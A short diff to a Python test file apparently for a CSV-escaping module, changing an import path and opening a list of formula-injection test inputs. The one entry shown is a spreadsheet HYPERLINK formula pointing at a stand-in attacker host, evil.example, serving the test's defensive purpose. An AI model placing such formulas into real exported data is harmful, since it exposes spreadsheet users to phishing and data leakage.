@@ -8,7 +8,7 @@ from decimal import Decimal
 
 import pytest
 
-from streams.safe_csv import cell, csv_bytes
+from streams.audit.safe_csv import cell, csv_bytes
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x","click")',
